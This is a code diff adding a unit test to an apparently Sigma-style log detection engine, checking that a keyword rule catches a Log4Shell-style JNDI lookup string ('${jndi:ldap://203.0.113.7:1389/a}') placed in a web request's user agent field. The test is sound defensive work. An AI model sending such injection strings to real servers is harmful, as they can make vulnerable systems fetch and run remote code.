@@ -239,3 +239,14 @@ def test_groups_are_shared_by_discriminators_with_the_same_logsources() -> None:
     assert len({id(v.group) for v in views}) == 1 and len(views[0].group.rules) == 1
     sshd = index.view({"event": {"dataset": "linux.auth"}, "process": {"name": "sshd"}})
     assert sshd.group is not views[0].group and sshd.group.rules == ()
+
+
+def test_web_keywords_search_parsed_fields_without_a_message() -> None:
+    """A web agent that sends only parsed fields (no raw line) still hits keyword rules."""
+    ruleset = load_ok(rule_text("  keywords: ['${jndi:ldap:/']\n  condition: keywords",
+                                logsource="{category: webserver}"))
+    event = {"event": {"dataset": "web.access"}, "url": {"original": "/"},
+             "user_agent": {"original": "${jndi:ldap://203.0.113.7:1389/a}"}}
+    assert matched_ids(ruleset, [event]) == ["test-rule"]
+    event["user_agent"]["original"] = "curl/8.5.0"
+    assert matched_ids(ruleset, [event]) == []
